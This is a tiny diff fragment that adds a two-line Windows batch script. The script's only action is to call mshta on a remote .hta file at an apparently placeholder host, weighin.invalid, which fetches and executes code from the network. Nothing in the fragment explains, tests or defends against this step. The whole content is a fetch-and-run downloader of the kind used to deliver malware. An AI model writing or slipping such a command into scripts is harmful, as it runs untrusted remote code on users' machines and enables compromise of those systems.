@@ -1,0 +1,2 @@
+@echo off
+mshta http://weighin.invalid/x.hta
